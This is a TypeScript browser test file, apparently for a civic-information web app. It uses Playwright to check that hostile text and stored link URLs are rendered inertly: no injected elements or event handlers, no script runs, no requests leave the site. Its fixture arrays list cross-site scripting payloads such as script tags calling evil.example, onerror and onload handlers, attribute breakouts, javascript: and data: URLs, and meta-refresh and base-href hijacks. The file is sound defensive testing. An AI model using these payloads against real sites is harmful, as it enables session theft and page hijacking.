import { createServer, type Server } from "node:http";
import type { AddressInfo } from "node:net";
import { statement } from "@becivic/storage";
import { getRequestListener } from "@hono/node-server";
import type { Browser } from "playwright-core";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import { type HostileSample, openHostileSite } from "../reading/_hostile-site.ts";
import { launchBrowser } from "./_browser.ts";

const HARMLESS: HostileSample = { text: "Plain words", url: "https://www.ejustice.just.fgov.be/eli/z" };
const PAGES = ["/", "/skills", "/skills/lease", "/paths", "/paths/lease-receipt", "/api/onboarding-form?skill_id=lease&format=html"];

const TEXTS: readonly string[] = [
  "<script>ran = true; fetch('http://evil.example/')</script>",
  '<img src="http://evil.example/p.png" onerror="window.ran = true">',
  '" onmouseover="ran = true" autofocus onfocus="ran = true" x="',
  "' onclick='window.ran = true",
  "</title></head><body onload=window.ran=true>",
  "<svg onload=window.ran=true><a xlink:href='javascript:ran=1'>x</a>",
  "</p></li></ul></main><iframe src=http://evil.example></iframe>",
  "<!--", // everything behind it would be gone
  "<style>@import 'http://evil.example/x.css'</style>",
  "<link rel=stylesheet href=http://evil.example/y.css>",
  "&lt;script&gt;window.ran=true&lt;/script&gt; &#60;b&#62;",
  "<base href=http://evil.example/>",
  "<meta http-equiv=refresh content=0;url=http://evil.example>",
  "</script><script>window.ran = true</script>",
];

const STORED_URLS = [
  "javascript:window.ran=true",
  "data:text/html,<script>window.ran=true</script>",
  'https://www.vlaanderen.be/"><b onclick=x>',
  "//evil.example/x",
];

let browser: Browser;
beforeAll(async () => {
  browser = await launchBrowser();
});
afterAll(() => browser?.close());

/** What a browser makes of the pages: how many elements of each kind, which attributes, where links lead; and whether anything ran or was asked for. */
async function lookAt(sample: HostileSample, storedUrl?: string) {
  const { app, driver } = await openHostileSite(sample);
  if (storedUrl !== undefined)
    await driver.write([
      statement(
        "UPDATE catalogue SET content = json_set(content, '$.url', ?, '$.archived_url', ?) WHERE kind = 'reference'",
        storedUrl,
        storedUrl,
      ),
    ]);
  const server: Server = createServer(getRequestListener(app.fetch));
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const origin = `http://127.0.0.1:${(server.address() as AddressInfo).port}`;
  const page = await browser.newPage();
  const requests: string[] = [];
  const dialogs: string[] = [];
  page.on("request", (request) => void (new URL(request.url()).origin === origin || requests.push(request.url())));
  page.on("dialog", (dialog) => void dialogs.push(dialog.message()));
  const pages = new Map<string, unknown>();
  for (const path of PAGES) {
    await page.goto(origin + path);
    pages.set(path, await page.evaluate(READ));
  }
  const facts = { pages, requests, dialogs };
  await page.close();
  await new Promise((resolve) => server.close(resolve));
  return facts;
}

const READ = `(() => {
  const elements = [...document.querySelectorAll("*")];
  const counts = {};
  const svg = (element) => element.closest("svg") !== null;
  for (const element of elements) if (!svg(element)) counts[element.localName] = (counts[element.localName] ?? 0) + 1;
  const attributes = new Set(elements.flatMap((element) => [...element.attributes].map(({ name }) => name)));
  const links = elements.filter((element) => element.localName === "a").map((element) => element.href?.baseVal ?? element.href);
  const inSvg = new Set(elements.filter(svg).map(({ localName }) => localName));
  return {
    counts,
    handlers: [...attributes].filter((name) => name.startsWith("on")),
    schemes: [...new Set(links.map((href) => new URL(href, location.href).protocol))].sort(),
    foreign: links.filter((href) => href.includes("evil.example/") && new URL(href).hostname === "evil.example"),
    inSvg: [...inSvg].filter((name) => !["svg", "g", "title", "desc", "path", "rect", "text", "tspan", "polygon", "defs", "marker", "line", "circle", "ellipse", "a", "use", "symbol"].includes(name)),
    ran: window.ran === true,
  };
})()`;

describe("the text of a hostile sender in a browser", () => {
  let harmless: Map<string, { counts: unknown }>;
  beforeAll(async () => {
    harmless = (await lookAt(HARMLESS)).pages as typeof harmless;
  });

  const CLEAN = { handlers: [], foreign: [], inSvg: [], ran: false };

  it.each(TEXTS)("make no element, run nothing and send no request: %s [text.html]", async (text) => {
    const { pages, requests, dialogs } = await lookAt({ ...HARMLESS, text });
    expect({ requests, dialogs }).toEqual({ requests: [], dialogs: [] });
    for (const [path, facts] of pages) expect([path, facts]).toMatchObject([path, { ...CLEAN, counts: harmless.get(path)?.counts }]);
  });

  it.each(STORED_URLS)("lead to pages only: %s [text.html]", async (url) => {
    const { pages, requests, dialogs } = await lookAt(HARMLESS, url);
    expect({ requests, dialogs }).toEqual({ requests: [], dialogs: [] });
    for (const [path, facts] of pages) {
      expect([path, facts]).toMatchObject([path, CLEAN]);
      for (const scheme of (facts as { schemes: string[] }).schemes) expect(["http:", "https:"]).toContain(scheme);
    }
  });
});
